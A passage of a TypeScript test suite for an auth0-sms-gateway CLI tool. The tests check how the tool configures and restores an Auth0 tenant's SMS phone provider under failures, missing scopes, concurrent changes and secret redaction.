  it('an Auth0 deploy failure in the middle names the steps done and the restore command; restore puts the tenant back', async () => {
    sandbox().inject({ kind: 'status', status: 500, method: 'POST', path: /\/deploy$/, times: 10 });
    // The reads that settle each lost deploy wait 10 ms, not the 7.5 s a user's run would.
    const r = await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env: env(SECRET, { AUTH0_SMS_GATEWAY_MAX_RETRIES: '0', AUTH0_SMS_GATEWAY_SETTLE_MS: '10' }) });
    expect(r.code).toBe(1);
    // Two 500s and reads that showed no deployment: the outcome is unknown, never "not deployed".
    expect(r.stderr).toMatch(
      /error: deploy the Action auth0-sms-gateway-sms: .*HTTP 500.*, twice; the last read still showed it not carried out by then, but a write whose answer was lost may still land; done before that: created the Action auth0-sms-gateway-sms/,
    );
    const [file] = readdirSync(backups);
    expect(r.stderr).toContain(`hint: put it back with \`auth0-sms-gateway restore ${join(backups, file!)}\``);
    const restored = await runCli(['restore', join(backups, file!), '--yes', '--no-backup'], { env: env() });
    expect(restored.code).toBe(0);
    expect(sandbox().actions()).toEqual([]);
    expect(sandbox().phoneProvider()).toBeUndefined();
  });

  it('configure on a connection made on this tenant: status will read its new keys as route gateway, but delivery there is not claimed', async () => {
    // A connection made on this tenant: none of provider, twilio_sid, gateway_url.
    asCreatedOnUnifiedPhone(sandbox(), SEED_IDS.twilio);
    const plan = await runCli(['configure', 'sms', '--gateway-url', 'https://sms.example.com/send', '--dry-run', '--json'], { env: env() });
    expect(JSON.parse(plan.stdout)).toMatchObject({ route: 'phone-provider', routeAfter: 'gateway' });
    const r = await runCli(['configure', 'sms', '--gateway-url', 'https://sms.example.com/send', '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(
      /warning: this write gives the connection the keys of one from before the Unified Phone Experience \(provider, gateway_url\), so `status` will show its route as gateway; but Auth0 documents .* not known: .*phone-provider configure/,
    );
    expect(r.stderr).toContain('Done: sms updated to use https://sms.example.com/send; whether Auth0 sends its codes there is not known (see the warning above).');
    expect(r.stderr).not.toContain('now sends codes through');
    expect(sandbox().connection(SEED_IDS.twilio)?.options?.gateway_url).toBe('https://sms.example.com/send');
    const status = await runCli(['status', '--json'], { env: env() });
    expect((JSON.parse(status.stdout) as { connections: { name: string; route: string }[] }).connections).toContainEqual(expect.objectContaining({ name: 'sms', route: 'gateway' }));
  });

  it('apply of a file with only a phone_provider: entry that already matches says so in words', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const file = join(backups, 'phone.yaml');
    writeFileSync(file, `phone_provider:\n  gateway_url: ${gw.url}\n  authentication: { method: bearer, audience: ${AUDIENCE}, secret: "\${S}" }\n`);
    const r = await runCli(['apply', '-f', file, '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`Nothing to change: the phone provider already matches ${file}.`);
  });

  it('apply on a connection made on this tenant warns as configure does', async () => {
    asCreatedOnUnifiedPhone(sandbox(), SEED_IDS.twilio);
    const file = join(backups, 'apply.yaml');
    writeFileSync(file, 'connections:\n  - connection: sms\n    gateway_url: https://sms.example.com/send\n    authentication: none\n');
    const r = await runCli(['apply', '-f', file, '--dry-run', '--json'], { env: env() });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as { results: { warnings: string[] }[] };
    expect(doc.results[0]?.warnings).toContainEqual(expect.stringMatching(/^this write gives the connection the keys of one from before .* not known: to send them through the gateway add a phone_provider: entry to the file$/));
  });

  it('configure on a connection with use_phone_provider on writes, warns that Auth0 bypasses the gateway, and does not claim delivery', async () => {
    const connection = sandbox().connection(SEED_IDS.twilio);
    expect((await api(sandbox(), 'PATCH', `/connections/${SEED_IDS.twilio}`, { options: { ...connection?.options, use_phone_provider: 'unified' } })).status).toBe(200);
    const r = await runCli(['configure', 'sms', '--gateway-url', 'https://sms.example.com/send', '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/warning: Auth0 bypasses the gateway while use_phone_provider is on: .*`auth0-sms-gateway phone-provider configure`/);
    expect(r.stderr).toContain("Done: sms updated; Auth0 still sends its codes through the tenant's phone provider");
    expect(r.stderr).not.toContain('now sends codes through');
    // Not the gateway Auth0 bypasses as the next thing to test.
    expect(r.stderr).not.toContain('Next: auth0-sms-gateway test-gateway');
  });
});

describe('phone-provider configure: what is there already', () => {
  afterEach(closeTestSandboxes);
  let gw: Awaited<ReturnType<typeof gateway>>;
  beforeAll(async () => {
    gw = await gateway(SECRET);
  });
  afterAll(() => gw.server.close());

  it.each([
    ['the bindings', /\/actions\/triggers\/custom-phone-provider\/bindings$/],
    ['the provider', /\/branding\/phone\/providers\/[^/]+$/],
  ])('restore whose write of %s is dropped before Auth0 applied it: sent again, and the tenant is as the backup holds it', async (_what, path) => {
    // Another vendor's Action bound to a custom provider that also delivers voice: configure changes both.
    const provider = { ...seedCustomPhoneProvider(), configuration: { delivery_methods: ['text', 'voice'] } };
    const s = await startTestSandbox({
      tenant: { phoneConsolidatedExperience: true },
      phoneProvider: provider,
      actions: [seedForeignPhoneAction()],
      bindings: { 'custom-phone-provider': [{ action: SEED_FOREIGN_ACTION_ID }] },
    });
    const backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-lost-restore-'));
    const env = sandboxEnv(s, 'full', { S: SECRET, AUTH0_SMS_GATEWAY_SETTLE_MS: '20' });
    expect((await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env })).code).toBe(0);
    expect(s.bindings('custom-phone-provider').map((b) => b.action_id)).not.toEqual([SEED_FOREIGN_ACTION_ID]);
    s.inject({ kind: 'drop', method: 'PATCH', path });
    const r = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env });
    expect(r.code).toBe(0);
    expect(s.bindings('custom-phone-provider').map((b) => b.action_id)).toEqual([SEED_FOREIGN_ACTION_ID]);
    expect(s.phoneProvider()?.configuration).toEqual(provider.configuration);
  });

  it('an Action of another trigger in the listing, named as the tool names its own, is never taken for it', async () => {
    // Auth0 filters the listing by trigger; were it ever not to, the tool's own check must hold.
    // Its code is even the tool's own (copied from an Action the tool installed elsewhere).
    const elsewhere = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: sandboxEnv(elsewhere, 'full', { S: SECRET }) })).code).toBe(0);
    const ours = elsewhere.actions()[0]!;
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const postLogin = { ...ours, id: 'act_PostLoginNamedLikeOurs', supported_triggers: [{ id: 'post-login', version: 'v3' }] };
    s.inject({ kind: 'status', status: 200, method: 'GET', path: /\/actions\/actions$/, body: { actions: [postLogin], total: 1, page: 0, per_page: 100 }, times: 100 });
    const r = await runCli(configureArgs(gw.url, '--dry-run'), { env: sandboxEnv(s, 'full', { S: SECRET }) });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('Steps, in this order:\n  1. create the Action auth0-sms-gateway-sms\n');
    expect(r.stdout + r.stderr).not.toContain(postLogin.id);
  });

  it('replaces a Twilio provider only after saying so; restore needs its token again and puts it back', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true }, phoneProvider: seedTwilioPhoneProvider() });
    const backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-twilio-'));
    const env = sandboxEnv(s, 'full', { S: SECRET });
    const plan = await runCli(configureArgs(gw.url, '--dry-run'), { env });
    expect(plan.stderr).toMatch(/warning: this replaces the tenant's Twilio phone provider; Auth0 never returns its auth token/);
    expect(plan.stdout).toMatch(/~ phone_provider\.name: "twilio" -> "custom"/);
    // The PATCH replaces the configuration: the Twilio keys it drops are in the diff.
    expect(plan.stdout).toMatch(/- phone_provider\.configuration\.sid/);
    expect(plan.stdout).toMatch(/- phone_provider\.configuration\.default_from/);
    expect(writes(s)).toEqual([]);
    expect(plan.stderr).toContain(
      'Steps, in this order:\n  1. create the Action auth0-sms-gateway-sms\n  2. deploy the Action auth0-sms-gateway-sms\n  3. bind auth0-sms-gateway-sms to custom-phone-provider\n  4. set the phone provider to "custom"\n',
    );
    const planJson = await runCli(configureArgs(gw.url, '--dry-run', '--json'), { env });
    expect(JSON.parse(planJson.stdout)).toMatchObject({
      changed: false,
      dryRun: true,
      planned: ['create the Action auth0-sms-gateway-sms', 'deploy the Action auth0-sms-gateway-sms', 'bind auth0-sms-gateway-sms to custom-phone-provider', 'set the phone provider to "custom"'],
      steps: [],
    });
    expect(writes(s)).toEqual([]);
    expect((await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env })).code).toBe(0);
    const file = join(backups, readdirSync(backups)[0]!);

    const withoutToken = await runCli(['restore', file, '--yes', '--no-backup'], { env });
    expect(withoutToken.code).toBe(2);
    expect(withoutToken.stderr).toMatch(/--twilio-auth-token-env/);
    const before = writes(s).length;
    expect(writes(s)).toHaveLength(before);

    const restored = await runCli(['restore', file, '--yes', '--no-backup', '--twilio-auth-token-env', 'TWILIO_TOKEN'], { env: { ...env, TWILIO_TOKEN: SEED_PHONE_TWILIO_TOKEN } });
    expect(restored.code).toBe(0);
    noSecretIn(restored, SEED_PHONE_TWILIO_TOKEN);
    // Each step is listed, in words and in the order it runs, before a restore that writes asks (as a dry run lists them).
    expect(restored.stderr).toContain(
      'Steps, in this order:\n  1. set the phone provider back to "twilio"\n  2. remove the custom-phone-provider binding\n  3. delete the Action auth0-sms-gateway-sms (the backup had none)\n',
    );
    expect(s.phoneProvider()).toMatchObject({ name: 'twilio', credentials: { auth_token: SEED_PHONE_TWILIO_TOKEN }, configuration: seedTwilioPhoneProvider().configuration });
    expect(s.bindings('custom-phone-provider')).toEqual([]);
    expect(s.actions()).toEqual([]);

    // Restored once more: the provider already matches, but the token is written again, and the diff says so.
    const again = await runCli(['restore', file, '--dry-run', '--json', '--twilio-auth-token-env', 'TWILIO_TOKEN'], { env: { ...env, TWILIO_TOKEN: SEED_PHONE_TWILIO_TOKEN } });
    expect(again.code).toBe(0);
    noSecretIn(again, SEED_PHONE_TWILIO_TOKEN);
    expect(JSON.parse(again.stdout)).toMatchObject({
      changed: false,
      dryRun: true,
      planned: ['set the phone provider back to "twilio"'],
      // A credential shows redacted, as every secret does; the line says it is written again.
      diff: [{ path: 'phone_provider.credentials.auth_token', kind: 'changed', before: '[redacted]', after: '[redacted]' }],
    });

    // Auth0 quoting the token back in a refusal: hidden in the message, the --json document and the stack trace.
    const refusal = { statusCode: 400, error: 'Bad Request', message: `Twilio rejected credentials.auth_token ${SEED_PHONE_TWILIO_TOKEN} (20003 Authenticate)` };
    for (const mode of ['--verbose', '--json']) {
      s.inject({ kind: 'status', status: 400, body: refusal, method: 'PATCH', path: /\/branding\/phone\/providers\/[^/]+$/ });
      const refused = await runCli(['restore', file, '--yes', '--no-backup', mode, '--twilio-auth-token-env', 'TWILIO_TOKEN'], { env: { ...env, TWILIO_TOKEN: SEED_PHONE_TWILIO_TOKEN } });
      expect(refused.code).toBe(1);
      expect(refused.stdout + refused.stderr).toContain('Twilio rejected credentials.auth_token [redacted]');
      noSecretIn(refused, SEED_PHONE_TWILIO_TOKEN);
    }
  });

  it('a custom provider that already delivers text is not written, and its diff shows no change to it, other keys and all', async () => {
    const provider = { ...seedCustomPhoneProvider(), configuration: { delivery_methods: ['text'], note: 'kept by Auth0' } };
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true }, phoneProvider: provider });
    const r = await runCli(configureArgs(gw.url, '--dry-run', '--json'), { env: sandboxEnv(s, 'full', { S: SECRET }) });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as { diff: { path: string }[]; planned: string[] };
    expect(doc.planned.some((step) => step.includes('phone provider'))).toBe(false);
    expect(doc.diff.filter((change) => change.path.startsWith('phone_provider'))).toEqual([]);
  });

  it('unbinds another vendor\'s Action only after saying so; restore binds it again', async () => {
    const s = await startTestSandbox({
      tenant: { phoneConsolidatedExperience: true },
      phoneProvider: seedCustomPhoneProvider(),
      actions: [seedForeignPhoneAction()],
      bindings: { 'custom-phone-provider': [{ action: SEED_FOREIGN_ACTION_ID }] },
    });
    const backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-foreign-'));
    const env = sandboxEnv(s, 'full', { S: SECRET });
    const r = await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/warning: the Action "acme-sms-provider" is unbound from custom-phone-provider \(kept, not deleted/);
    expect(r.stdout).toMatch(/~ bound_to_custom_phone_provider: \["acme-sms-provider"\] -> \["auth0-sms-gateway-sms"\]/);
    noSecretIn(r, SEED_ACTION_SECRET);
    const restored = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env });
    expect(restored.code).toBe(0);
    expect(s.bindings('custom-phone-provider').map((b) => b.action_id)).toEqual([SEED_FOREIGN_ACTION_ID]);
    expect(s.actions().map((a) => a.id)).toEqual([SEED_FOREIGN_ACTION_ID]);
  });

  it('a base64url secret signs with its decoded bytes', async () => {
    const b64 = await gateway(B64_SECRET, true);
    try {
      const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
      const r = await runCli(configureArgs(b64.url, '--secret-base64-encoded', '--yes', '--no-backup'), { env: sandboxEnv(s, 'full', { S: B64_SECRET }) });
      expect(r.code).toBe(0);
      expect(await s.deliver({ to: PHONE })).toMatchObject({ outcome: 'delivered' });
      expect(b64.received).toHaveLength(1);
    } finally {
      await b64.server.close();
    }
  });

  it('a gateway answering 500 makes Auth0 retry', async () => {
    const failing = await startGatewayServer({ tls: sharedTls(), verify: null, onMessage: () => Promise.reject(new Error('downstream SMS API is down')) });
    try {
      const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
      expect((await runCli(['phone-provider', 'configure', '--gateway-url', `${failing.url}/sms`, '--auth', 'none', '--yes', '--no-backup'], { env: sandboxEnv(s) })).code).toBe(0);
      expect(await s.deliver({ to: PHONE })).toMatchObject({ outcome: 'retry', reason: expect.stringMatching(/500/) });
    } finally {
      await failing.close();
    }
  });

  it('a gateway that never answers makes the Action give up at its 15 s and Auth0 retry (the Action\'s clock run 100x faster)', async () => {
    const silent = await startGatewayServer({ tls: sharedTls(), verify: null, onMessage: () => new Promise<void>(() => undefined) });
    try {
      const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true }, actionTimeScale: 0.01, actionTimeoutMs: 200 });
      expect((await runCli(['phone-provider', 'configure', '--gateway-url', `${silent.url}/sms`, '--auth', 'none', '--yes', '--no-backup'], { env: sandboxEnv(s) })).code).toBe(0);
      expect(await s.deliver({ to: PHONE })).toMatchObject({ outcome: 'retry', reason: expect.stringMatching(/did not answer within 15 s/) });
    } finally {
      await silent.close();
    }
  });

  it('--test-to calls the gateway with the planned settings first, and writes nothing unless it answers 200', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const wrong = await runCli(configureArgs(gw.url, '--test-to', PHONE, '--yes', '--no-backup'), { env: sandboxEnv(s, 'full', { S: OTHER_SECRET }) });
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toMatch(/the gateway failed the test message \(Authentication failed while calling the SMS gateway: 401\): nothing was written/);
    expect(writes(s)).toEqual([]);
    const right = await runCli(configureArgs(gw.url, '--test-to', PHONE, '--yes', '--no-backup'), { env: sandboxEnv(s, 'full', { S: SECRET }) });
    expect(right.code).toBe(0);
    // Judged by the Action's 15 s wait, not Auth0's 30 s for a connection's gateway.
    expect(right.stderr).toMatch(/Test message to \+15551230001 through .*: HTTP 200 in \d+ ms, which the phone provider's Action counts as delivered\./);
  });

  it('without the Actions scopes: exit 1 naming read:actions before any write', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const r = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: sandboxEnv(s, 'noActions', { S: SECRET }) });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/missing scope read:actions/);
    expect(writes(s)).toEqual([]);
  });

  it('with read scopes only: exit 1 naming every write scope it lacks, before asking or writing; a dry run warns', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const env = sandboxEnv(s, 'readAll', { S: SECRET });
    const r = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env });
    expect(r.code).toBe(1);
    for (const scope of ['create:actions', 'create:phone_providers']) expect(r.stderr).toContain(scope);
    expect(writes(s)).toEqual([]);
    // Without --yes and without a terminal: the scopes, not "needs confirmation".
    const unasked = await runCli(configureArgs(gw.url, '--no-backup'), { env });
    expect(unasked.code).toBe(1);
    expect(unasked.stderr).toMatch(/error: the token lacks create:actions, .*create:phone_providers, which these changes need: nothing was written/);
    const plan = await runCli(configureArgs(gw.url, '--dry-run'), { env });
    expect(plan.code).toBe(0);
    expect(plan.stderr).toMatch(/warning: the token lacks create:actions, .*: this plan cannot be written with it/);
    // apply with a phone_provider: entry checks them before asking too.
    const file = join(mkdtempSync(join(tmpdir(), 'a0sg-phone-apply-')), 'apply.yaml');
    writeFileSync(file, `phone_provider:\n  gateway_url: ${gw.url}\n  authentication: none\n`);
    const applied = await runCli(['apply', '-f', file, '--no-backup'], { env });
    expect(applied.code).toBe(1);
    expect(applied.stderr).toMatch(/error: the token lacks create:actions, .*which these changes need: nothing was written/);
    expect(writes(s)).toEqual([]);
  });

  // Windows has no such mode bits: the check (and this test) is for POSIX systems.
  it.skipIf(process.platform === 'win32')('a backup folder others can write is refused before asking (a dry run warns of it)', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const open = mkdtempSync(join(tmpdir(), 'a0sg-phone-open-'));
    chmodSync(open, 0o777);
    const env = sandboxEnv(s, 'full', { S: SECRET });
    const plan = await runCli(configureArgs(gw.url, '--dry-run', '--backup-dir', open), { env });
    expect(plan.code).toBe(0);
    expect(plan.stderr).toMatch(/warning: the backup folder .* is not safe for backups \(it is writable by other users\), and restore would refuse a backup from it\n/);
    const r = await runCli(configureArgs(gw.url, '--backup-dir', open), { env });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/error: the backup folder .* is not safe for backups/);
    expect(writes(s)).toEqual([]);
  });

  it('an Action that Auth0 fails to build: exit 1 with Auth0\'s reason, the steps done and the restore command', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true }, actionBuildFailure: 'runtime node18 is not available' });
    const backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-build-'));
    const r = await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env: sandboxEnv(s, 'full', { S: SECRET }) });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/Auth0 could not build the Action: runtime node18 is not available\); done before that: created the Action auth0-sms-gateway-sms/);
    expect(r.stderr).toContain(`auth0-sms-gateway restore ${join(backups, readdirSync(backups)[0]!)}`);
    expect(s.phoneProvider()).toBeUndefined();
    expect(s.bindings('custom-phone-provider')).toEqual([]);
    // Run again: the Action exists, the build is its first step; the hint is Auth0's build, not "report it".
    const again = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: sandboxEnv(s, 'full', { S: SECRET }) });
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/done before that: nothing\nhint: the build is Auth0's: see its log in the Auth0 Dashboard \(Actions > Library\)/);
    expect(again.stderr).not.toMatch(/please report/);
  });
});

describe('status without scopes', () => {
  afterEach(closeTestSandboxes);

  it('connectionsOnly: unifiedPhone and phoneProvider null, each missing scope named, exit 0', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const r = await runCli(['status', '--json'], { env: sandboxEnv(s, 'connectionsOnly') });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as Record<string, unknown>;
    expect(doc).toMatchObject({ unifiedPhone: null, phoneProvider: null, missingScopes: ['read:tenant_settings', 'read:phone_providers', 'read:actions'] });
    expect((doc.connections as { route: string }[]).map((c) => c.route)).toEqual(['twilio', 'gateway']);
    for (const scope of ['read:tenant_settings', 'read:phone_providers', 'read:actions']) expect(r.stderr.split(`the token lacks ${scope}`)).toHaveLength(2);
    expect(requestLines(s).every((line) => line.startsWith('GET ') || line === 'POST /oauth/token')).toBe(true);
  });

  it('phone-provider show --json names the scopes it lacked: a null it could not read is not "none"', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const none = await runCli(['phone-provider', 'show', '--json'], { env: sandboxEnv(s) });
    expect(JSON.parse(none.stdout)).toMatchObject({ phoneProvider: null, missingScopes: [] });
    const unread = await runCli(['phone-provider', 'show', '--json'], { env: sandboxEnv(s, 'connectionsOnly') });
    expect(unread.code).toBe(0);
    expect(JSON.parse(unread.stdout)).toMatchObject({ phoneProvider: null, missingScopes: expect.arrayContaining(['read:phone_providers']) as unknown });
  });

  it('list without read:tenant_settings still lists; undecided routes are unknown, with one warning', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    s.inject({ kind: 'concurrentWrite', id: SEED_IDS.twilio, afterReads: 0, mutate: (c) => void delete c.options!.twilio_sid });
    const r = await runCli(['list', '--json'], { env: sandboxEnv(s, 'connectionsOnly') });
    expect(r.code).toBe(0);
    expect((JSON.parse(r.stdout) as { route: string }[]).map((row) => row.route)).toEqual(['unknown', 'gateway']);
    expect(r.stderr.match(/warning: the token lacks read:tenant_settings/g)).toHaveLength(1);
  });
});

describe('phone-provider writes whose answer is lost end in the state observed', () => {
  afterEach(closeTestSandboxes);
  let gw: Awaited<ReturnType<typeof gateway>>;
  beforeAll(async () => {
    gw = await gateway(SECRET);
  });
  afterAll(() => gw.server.close());
  const fast = { S: SECRET, AUTH0_SMS_GATEWAY_SETTLE_MS: '20' };

  it.each([
    ['the Action create, applied and its answer lost', { kind: 'drop', method: 'POST', path: /\/actions\/actions$/, afterApply: true }],
    ['the provider create, applied after the client gave up', { kind: 'delayedApply', ms: 1500, method: 'POST', path: /\/branding\/phone\/providers$/ }],
    ['the binding, dropped before it was applied', { kind: 'drop', method: 'PATCH', path: /\/bindings$/ }],
    ['the deploy, answered 503', { kind: 'status', status: 503, method: 'POST', path: /\/deploy$/ }],
    // A success status is a write carried out, whatever its body: read back, never "could not".
    ['the Action create, answered 201 with its JSON cut short', { kind: 'unreadableAnswer', method: 'POST', path: /\/actions\/actions$/ }],
    ['the binding, answered 200 with a proxy page', { kind: 'unreadableAnswer', method: 'PATCH', path: /\/bindings$/, body: '<html>ok</html>' }],
    ['the provider create, answered 201 with JSON of another shape', { kind: 'unreadableAnswer', method: 'POST', path: /\/branding\/phone\/providers$/, body: '{"ok":true}' }],
  ] as const)('%s: read back, exit 0, one Action, the provider set', async (_label, fault) => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    s.inject(structuredClone(fault) as Parameters<typeof s.inject>[0]);
    const r = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: sandboxEnv(s, 'full', { ...fast, AUTH0_SMS_GATEWAY_HTTP_TIMEOUT: '1' }) });
    expect(r.stderr).not.toMatch(/error:/);
    expect(r.code).toBe(0);
    expect(s.actions()).toHaveLength(1);
    expect(s.phoneProvider()).toMatchObject({ name: 'custom' });
    expect(s.bindings('custom-phone-provider')).toHaveLength(1);
  });

  it('no read succeeds after a lost answer: exit 1, the outcome of that step is unknown, the steps before it and the restore command', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-lost-'));
    s.inject({ kind: 'drop', method: 'POST', path: /\/branding\/phone\/providers$/, afterApply: true });
    // The provider create is the last step: every read of the providers after the first fails.
    s.inject({ kind: 'drop', method: 'GET', path: /\/branding\/phone\/providers$/, after: 1, times: 100 });
    const r = await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env: sandboxEnv(s, 'full', fast) });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/error: create the phone provider "custom": .*, and no read since shows whether Auth0 carried it out: the outcome is unknown; done before that: created the Action auth0-sms-gateway-sms, deployed the Action auth0-sms-gateway-sms, bound auth0-sms-gateway-sms to custom-phone-provider/);
    expect(r.stderr).toContain(`auth0-sms-gateway restore ${join(backups, readdirSync(backups)[0]!)}`);
    expect(r.stderr).not.toMatch(/could not create the phone provider/);
  });

  it('restore: the provider delete, applied and its answer lost, is seen done', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-lost-restore-'));
    const env = sandboxEnv(s, 'full', fast);
    expect((await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env })).code).toBe(0);
    s.inject({ kind: 'drop', method: 'DELETE', path: /\/branding\/phone\/providers\//, afterApply: true });
    const r = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env });
    expect(r.stderr).not.toMatch(/error:/);
    expect(r.code).toBe(0);
    expect(s.phoneProvider()).toBeUndefined();
    expect(s.actions()).toEqual([]);
  });
});

describe('a change made while the question waits', () => {
  afterAll(closeTestSandboxes);
  const URL = 'https://sms.example.com/send';
  const yesAfter = (write: () => Promise<{ status: number }>) => async () => {
    expect((await write()).status).toBe(200);
    return `y${KEY.enter}`;
  };

  it('phone-provider configure stops before its first write and its backup: the binding another admin made stays', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true }, actions: [seedForeignPhoneAction()] });
    const dir = mkdtempSync(join(tmpdir(), 'moved-'));
    const bind = () => api(s, 'PATCH', '/actions/triggers/custom-phone-provider/bindings', { bindings: [{ ref: { type: 'action_id', value: SEED_FOREIGN_ACTION_ID }, display_name: 'acme' }] }, ['update:actions']);
    const r = await runCliOnTerminal(['phone-provider', 'configure', '--gateway-url', URL, '--auth', 'none', '--backup-dir', dir], {
      env: sandboxEnv(s, 'full'),
      steps: [[/Apply these changes/, yesAfter(bind)]],
    });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("error: the tenant's phone side changed since it was read (someone else wrote to it): nothing was written to it\n");
    expect(s.bindings('custom-phone-provider').map((b) => b.action_id)).toEqual([SEED_FOREIGN_ACTION_ID]);
    expect(s.actions().map((a) => a.id)).toEqual([SEED_FOREIGN_ACTION_ID]);
    expect(s.phoneProvider()).toBeUndefined();
    expect(readdirSync(dir)).toEqual([]);
  });

  it('an Action that was building when the plan was read and is built by the answer is no change: the run goes on', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true }, actionBuildMs: 800 });
    const created = await api(s, 'POST', '/actions/actions', { name: 'acme-draft', supported_triggers: [{ id: 'custom-phone-provider', version: 'v1' }], code: 'exports.onExecuteCustomPhoneProvider = async () => {};', runtime: 'node22' }, ['create:actions']);
    expect(created.status).toBe(201);
    const draft = (created.body as { id: string }).id;
    expect(s.actions().find((a) => a.id === draft)?.status).not.toBe('built');
    const built = async () => {
      while (s.actions().find((a) => a.id === draft)?.status !== 'built') await new Promise((resolve) => setTimeout(resolve, 50));
      return `y${KEY.enter}`;
    };
    const r = await runCliOnTerminal(['phone-provider', 'configure', '--gateway-url', URL, '--auth', 'none', '--no-backup'], { env: sandboxEnv(s, 'full'), steps: [[/Apply these changes/, built]] });
    expect(r.stderr).not.toContain('changed since it was read');
    expect(r.code).toBe(0);
    expect(s.phoneProvider()).toMatchObject({ name: 'custom' });
  });

  it('restore stops too: the provider another admin disabled stays disabled', async () => {
    const s = await startTestSandbox({ tenant: { phoneConsolidatedExperience: true } });
    const env = sandboxEnv(s, 'full');
    const dir = mkdtempSync(join(tmpdir(), 'moved-'));
    expect((await runCli(['phone-provider', 'configure', '--gateway-url', URL, '--auth', 'none', '--yes', '--backup-dir', dir], { env })).code).toBe(0);
    const [file] = readdirSync(dir);
    const id = s.phoneProvider()!.id;
    const disable = () => api(s, 'PATCH', `/branding/phone/providers/${id}`, { disabled: true }, ['update:phone_providers']);
    const r = await runCliOnTerminal(['restore', join(dir, file!), '--no-backup'], { env, steps: [[/Restore the phone provider/, yesAfter(disable)]] });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("error: the tenant's phone side changed since it was read (someone else wrote to it): nothing was written to it\n");
    expect(s.phoneProvider()).toMatchObject({ id, name: 'custom', disabled: true });
    expect(s.actions()).toHaveLength(1);
  });
});
